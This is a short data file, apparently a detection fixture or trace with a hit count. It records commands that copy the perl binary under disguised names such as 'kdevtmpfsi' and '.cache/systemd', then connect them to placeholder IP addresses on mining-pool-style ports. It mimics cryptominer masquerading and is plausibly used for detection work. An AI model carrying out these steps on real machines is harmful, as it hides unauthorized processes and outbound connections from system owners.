# SPDX-License-Identifier: Apache-2.0
# hits: 2
cp /usr/bin/perl /var/tmp/kdevtmpfsi
dial /var/tmp/kdevtmpfsi 203.0.113.7 3333
mkdir /root/.cache
cp /usr/bin/perl /root/.cache/systemd
dial /root/.cache/systemd 198.51.100.4 14444
